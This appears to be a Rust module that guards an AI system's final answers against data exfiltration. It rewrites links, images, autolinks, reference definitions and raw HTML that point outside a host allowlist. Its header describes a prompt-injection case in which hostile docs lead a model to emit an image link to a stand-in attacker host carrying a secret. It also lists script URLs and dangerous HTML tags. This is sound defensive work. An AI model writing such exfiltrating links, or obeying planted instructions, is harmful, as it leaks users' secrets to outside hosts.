//! Exfiltration guard for answers: no link, image or raw HTML in a final answer may point
//! to a host outside the allowlist.
//!
//! A model that read hostile docs can be talked into writing
//! `![x](https://evil.example/?q=SECRET)`; a Markdown renderer then fetches that URL and
//! the secret leaves without anyone clicking. This module finds every link, image,
//! autolink, reference definition and raw HTML tag with the real Markdown parser
//! (pulldown-cmark), and rewrites the ones that leave the allowlist into plain text.
//!
//! Decisions worth knowing:
//! * Code spans and code blocks are kept as they are: a renderer shows them as text and
//!   never fetches them. The one exception is a script URL (`javascript:…`, `data:text/html,…`),
//!   removed wherever it is: no answer needs one, and pasted into an address bar it runs.
//! * Bare `http(s)` URLs in plain text are kept: nothing fetches them without a click.
//! * Plain text is also read as HTML, both as written and as decoded
//!   (`&lt;img src="https&#58;//…">`), since a front end may insert it as HTML
//!   (see `text`).
//! * The rewrite is repeated until the parser finds nothing more to remove, because a
//!   removal can make new syntax (`![a](evil)(evil2)` leaves `[image removed…](evil2)`).
//!   If that does not settle within [`MAX_PASSES`], every `[`, `]`, `\` and `<` is escaped
//!   so that no link or tag can remain.
//! * Only `http`/`https` URLs whose host is allowed, relative URLs, email autolinks and
//!   `mailto:` without a query are kept; anything the URL check cannot be sure of is
//!   removed.
//!
//! Architecture invariant: this module does no IO.

use pulldown_cmark::{Event, LinkType, Options, Parser, RefDefs, Tag, TagEnd};
use regex::Regex;
use std::borrow::Cow;
use std::ops::Range;
use std::sync::LazyLock;

mod html;
mod text;
mod url;

use html::*;
use text::{TextRun, has_script_url};
/// The allowlist, for the page's renderer (`guard::markdown`).
pub(crate) use url::Allowlist;

/// What a removed image becomes.
const IMAGE_REMOVED: &str = "[image removed: host not allowed]";
/// What follows the text of a removed link.
const LINK_SUFFIX: &str = " [link removed: host not allowed]";
/// What a removed link without text (or an autolink) becomes.
const LINK_REMOVED: &str = "[link removed: host not allowed]";
/// What a removed raw HTML tag becomes.
const HTML_REMOVED: &str = "[html removed]";
/// How many parse-and-rewrite passes may run before falling back to escaping.
const MAX_PASSES: usize = 8;
/// The Markdown dialect parsed: CommonMark plus the common GFM block extensions.
const OPTIONS: Options = Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH).union(Options::ENABLE_TASKLISTS);
/// Tags removed whatever their attributes say: they run code, embed pages, restyle the
/// page, change where relative URLs point (`base`) or can set URLs indirectly (`svg`).
const ALWAYS_REMOVED: &[&str] = &[
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "link", "meta", "portal",
    "svg", "math",
];
/// Tags whose content is raw text up to their closing tag; removed together with it.
const RAW_TEXT: &[&str] = &["script", "style", "iframe"];
/// Attributes whose value a browser may fetch or navigate to.
const URL_ATTRS: &[&str] = &[
    "src",
    "href",
    "action",
    "formaction",
    "srcset",
    "imagesrcset",
    "poster",
    "data",
    "background",
    "cite",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "ping",
    "manifest",
    "codebase",
    "archive",
    "classid",
    "icon",
    "profile",
    "usemap",
];

/// A line that looks like a reference definition `[label]: url`, possibly inside block
/// quotes and list items. The parser reports the definitions it uses; this also catches
/// duplicates, which it drops silently.
static DEFINITION_LINE: LazyLock<Regex> = LazyLock::new(|| {
    let pattern = concat!(
        r"(?m)^(?:[ \t>*+-]|[0-9]{1,9}[.)])*", // block-quote and list-item markers
        r"(\[(?:[^\[\]\\\n]|\\.)+\]:[ \t]*",   // 1: the whole line from `[label]:`
        r"(?:<([^<>\n]*)>|(\S+))[^\n]*)",      // 2: `<url>` or 3: `url`, then a title
    );
    Regex::new(pattern).expect("the definition pattern is a valid constant regex")
});

/// Rewrites `answer` so no link or image points to a host outside `allowed_hosts` (exact host match, case-insensitive; a leading "*." entry allows subdomains). Relative links (docs/refunds.md, #anchor, ../x.md) are kept. An image to a disallowed host becomes `[image removed: host not allowed]`; a link becomes its text followed by ` [link removed: host not allowed]`; raw HTML tags (img, a, iframe, script, any tag with src/href/action/srcset attributes pointing outside) are removed and replaced by `[html removed]`; autolinks `<https://evil/...>` and reference definitions `[x]: https://evil/...` are removed too. Schemes other than http/https (javascript:, data:, file:, mailto: with query) count as disallowed. Returns Cow::Borrowed when nothing changed.
///
/// A `*.example.com` entry allows `a.example.com` but not `example.com` itself. Raw HTML
/// is removed tag by tag: a tag in [`ALWAYS_REMOVED`], an unterminated tag, a tag with an
/// event handler (`on…`), a `style` that could load something, or a URL attribute that
/// leaves the allowlist. Closing tags are kept.
pub fn neutralize_links<'a>(answer: &'a str, allowed_hosts: &[String]) -> Cow<'a, str> {
    let allow = Allowlist::new(allowed_hosts);
    let Some(mut current) = rewrite_once(answer, &allow) else {
        return Cow::Borrowed(answer);
    };
    for _ in 1..MAX_PASSES {
        match rewrite_once(&current, &allow) {
            None => return Cow::Owned(current),
            Some(next) => current = next,
        }
    }
    Cow::Owned(defang(&current))
}

/// One parse of `text`: the rewritten text, or `None` when nothing needs removing.
fn rewrite_once(text: &str, allow: &Allowlist) -> Option<String> {
    let parser = Parser::new_ext(text, OPTIONS).into_offset_iter();
    let mut edits = definition_edits(text, parser.reference_definitions(), allow);
    let mut walker = Walker::new(allow);
    let mut text_runs: Vec<TextRun> = Vec::new();
    let mut script_spans: Vec<Edit> = Vec::new();
    for (event, range) in parser {
        match &event {
            Event::Text(decoded) => match text_runs.last_mut() {
                Some(last) if last.source.end == range.start => last.push(text, decoded, range.clone()),
                _ => text_runs.push(TextRun::new(text, decoded, range.clone())),
            },
            Event::Code(code) if has_script_url(code) => {
                script_spans.push(Edit { range: range.clone(), with: LINK_REMOVED });
            }
            _ => {}
        }
        walker.event(text, event, range);
    }
    edits.extend(stray_definition_edits(text, &walker.content, allow));
    edits.append(&mut walker.edits);
    edits.append(&mut script_spans);
    // Tag-like text that CommonMark leaves as text (`<img src=https://x/?a=b>`, or
    // `&lt;img …>`) is still a tag to a browser if the answer is ever inserted as HTML.
    for run in text_runs {
        edits.extend(run.edits(text, allow));
    }
    (!edits.is_empty()).then(|| apply(text, edits))
}

/// One replacement of a source byte range.
#[derive(Debug)]
struct Edit {
    /// The bytes of the source to replace.
    range: Range<usize>,
    /// What they become.
    with: &'static str,
}

/// Applies `edits` to `text`. Overlapping edits are merged: their union is replaced by
/// both replacements, so nothing either meant to remove survives.
fn apply(text: &str, mut edits: Vec<Edit>) -> String {
    edits.sort_by_key(|e| (e.range.start, e.range.end));
    let mut out = String::with_capacity(text.len());
    let mut copied = 0;
    for edit in edits {
        if edit.range.start >= copied {
            out.push_str(text.get(copied..edit.range.start).unwrap_or_default());
        }
        out.push_str(edit.with);
        copied = copied.max(edit.range.end);
    }
    out.push_str(text.get(copied..).unwrap_or_default());
    out
}

/// Extends `range` over the newline after it when it starts a line, so a removed
/// definition leaves no blank line behind.
fn whole_line(text: &str, range: Range<usize>) -> Range<usize> {
    let at_line_start = text.get(..range.start).is_some_and(|before| before.is_empty() || before.ends_with('\n'));
    let newline_after = text.get(range.end..).is_some_and(|after| after.starts_with('\n'));
    if at_line_start && newline_after { range.start..range.end + 1 } else { range }
}

/// Removals for the reference definitions the parser recognised.
fn definition_edits(text: &str, defs: &RefDefs<'_>, allow: &Allowlist) -> Vec<Edit> {
    defs.iter()
        .filter(|(_, def)| !allow.url(&def.dest))
        .map(|(_, def)| Edit { range: whole_line(text, def.span.clone()), with: "" })
        .collect()
}

/// Removals for definition-like lines that the parser did not show as content, such as
/// duplicate definitions. Lines inside text, code or HTML are left alone.
fn stray_definition_edits(text: &str, content: &[Range<usize>], allow: &Allowlist) -> Vec<Edit> {
    let mut edits = Vec::new();
    for caps in DEFINITION_LINE.captures_iter(text) {
        let (Some(line), Some(url)) = (caps.get(1), caps.get(2).or_else(|| caps.get(3))) else {
            continue;
        };
        let overlaps = |r: &Range<usize>| r.start < line.end() && line.start() < r.end;
        if content.iter().any(overlaps) {
            continue;
        }
        let allowed = decode_entities(url.as_str()).is_some_and(|u| allow.url(&u));
        if !allowed {
            edits.push(Edit { range: whole_line(text, line.range()), with: "" });
        }
    }
    edits
}

/// How a blocked link or image is rewritten.
#[derive(Clone, Copy)]
enum Removal {
    /// Replaced whole by [`IMAGE_REMOVED`].
    Image,
    /// Replaced whole by [`LINK_REMOVED`]: the text of an autolink is its URL.
    Autolink,
    /// Keeps its text, followed by [`LINK_SUFFIX`].
    Link,
}

/// A link or image whose end tag has not been seen yet.
struct Frame {
    /// Source range of the whole link or image.
    range: Range<usize>,
    /// How to rewrite it if blocked.
    removal: Removal,
    /// True when its destination is not allowed.
    blocked: bool,
    /// Index of the first edit made inside it, dropped if it is replaced whole.
    first_edit: usize,
    /// Source range of its text (the union of its children), if it has any.
    inner: Option<Range<usize>>,
}

/// Walks the parser's events and collects the edits for links, images and HTML.
struct Walker<'h> {
    /// The hosts links may point to.
    allow: &'h Allowlist,
    /// Edits found so far.
    edits: Vec<Edit>,
    /// Open links and images, innermost last.
    frames: Vec<Frame>,
    /// The HTML block being read, if any.
    html: Option<HtmlBlock>,
    /// Source ranges the parser showed as content (text, code, HTML).
    content: Vec<Range<usize>>,
}

impl<'h> Walker<'h> {
    fn new(allow: &'h Allowlist) -> Self {
        Walker { allow, edits: Vec::new(), frames: Vec::new(), html: None, content: Vec::new() }
    }

    fn event(&mut self, text: &str, event: Event<'_>, range: Range<usize>) {
        match event {
            Event::Start(Tag::Link { link_type, dest_url, .. }) => {
                let allowed = link_type == LinkType::Email || self.allow.url(&dest_url);
                let removal = match link_type {
                    LinkType::Autolink => Removal::Autolink,
                    _ => Removal::Link,
                };
                self.open(range, removal, allowed);
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                let allowed = self.allow.url(&dest_url);
                self.open(range, Removal::Image, allowed);
            }
            Event::End(TagEnd::Link | TagEnd::Image) => self.close(),
            Event::Start(Tag::HtmlBlock) => self.html = Some(HtmlBlock::new(range)),
            Event::End(TagEnd::HtmlBlock) => {
                if let Some(block) = self.html.take() {
                    self.edits.extend(block.edits(text, self.allow));
                }
            }
            Event::Html(html) => {
                match &mut self.html {
                    Some(block) => block.push(text, &html, range.clone()),
                    None => self.inline_html(&html, range.clone()),
                }
                self.content.push(range);
            }
            Event::InlineHtml(html) => {
                self.inline_html(&html, range.clone());
                self.content.push(range.clone());
                self.note(range);
            }
            Event::Start(_) | Event::End(_) => self.note(range),
            _ => {
                self.content.push(range.clone());
                self.note(range);
            }
        }
    }

    /// Checks one inline HTML tag; it is replaced whole if it offends.
    fn inline_html(&mut self, html: &str, range: Range<usize>) {
        if !offending_tags(html, self.allow).is_empty() {
            self.edits.push(Edit { range, with: HTML_REMOVED });
        }
    }

    fn open(&mut self, range: Range<usize>, removal: Removal, allowed: bool) {
        let first_edit = self.edits.len();
        self.frames.push(Frame { range, removal, blocked: !allowed, first_edit, inner: None });
    }

    fn close(&mut self) {
        let Some(frame) = self.frames.pop() else {
            return;
        };
        if frame.blocked {
            self.block(&frame);
        }
        self.note(frame.range);
    }

    /// Records the edits that remove a blocked link or image.
    fn block(&mut self, frame: &Frame) {
        let whole = match (frame.removal, &frame.inner) {
            (Removal::Link, Some(inner)) => {
                self.edits.push(Edit { range: frame.range.start..inner.start, with: "" });
                self.edits.push(Edit { range: inner.end..frame.range.end, with: LINK_SUFFIX });
                return;
            }
            (Removal::Image, _) => IMAGE_REMOVED,
            _ => LINK_REMOVED,
        };
        self.edits.truncate(frame.first_edit);
        self.edits.push(Edit { range: frame.range.clone(), with: whole });
    }

    /// Widens the text range of the innermost open link or image to cover `range`.
    fn note(&mut self, range: Range<usize>) {
        if let Some(top) = self.frames.last_mut() {
            top.inner = Some(match top.inner.take() {
                None => range,
                Some(r) => r.start.min(range.start)..r.end.max(range.end),
            });
        }
    }
}

/// The lines of one HTML block, joined so that a tag spanning lines is seen whole.
struct HtmlBlock {
    /// Source range of the whole block.
    range: Range<usize>,
    /// The block's HTML as the renderer sees it (container prefixes such as `> ` removed).
    html: String,
    /// Where each line starts in `html` and in the source, and its length.
    lines: Vec<(usize, usize, usize)>,
    /// True while every line's text is exactly its source bytes, so positions map back.
    exact: bool,
}

impl HtmlBlock {
    fn new(range: Range<usize>) -> Self {
        HtmlBlock { range, html: String::new(), lines: Vec::new(), exact: true }
    }

    fn push(&mut self, source: &str, line: &str, range: Range<usize>) {
        self.exact &= source.get(range.clone()) == Some(line);
        self.lines.push((self.html.len(), range.start, line.len()));
        self.html.push_str(line);
    }

    /// Edits for the offending tags, or one edit for the whole block when positions in
    /// the joined HTML cannot be mapped back to the source.
    fn edits(&self, source: &str, allow: &Allowlist) -> Vec<Edit> {
        let found = offending_tags(&self.html, allow);
        if found.is_empty() {
            return Vec::new();
        }
        if !self.exact {
            let newline = source.get(..self.range.end).is_some_and(|s| s.ends_with('\n'));
            let end = self.range.end - usize::from(newline);
            return vec![Edit { range: self.range.start..end, with: HTML_REMOVED }];
        }
        let keep_newline = |end: usize| end - usize::from(end == self.html.len() && self.html.ends_with('\n'));
        let map = |r: Range<usize>| self.source_pos(r.start, false)..self.source_pos(keep_newline(r.end), true);
        found.into_iter().map(|r| Edit { range: map(r), with: HTML_REMOVED }).collect()
    }

    /// Maps a position in `html` to the source. An end position maps to the end of the
    /// line it closes. Unmappable positions widen to the block's bounds.
    fn source_pos(&self, pos: usize, is_end: bool) -> usize {
        let hit = self
            .lines
            .iter()
            .find(|&&(at, _, len)| if is_end { at < pos && pos <= at + len } else { at <= pos && pos < at + len });
        match (hit, is_end) {
            (Some(&(at, src, _)), _) => src + (pos - at),
            (None, false) => self.range.start,
            (None, true) => self.range.end,
        }
    }
}

/// Last resort when rewriting does not settle: escapes everything that can start a link,
/// an image, a definition, an autolink or a tag.
fn defang(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + text.len() / 8);
    for c in text.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '[' => out.push_str("\\["),
            ']' => out.push_str("\\]"),
            '<' => out.push_str("&lt;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests;
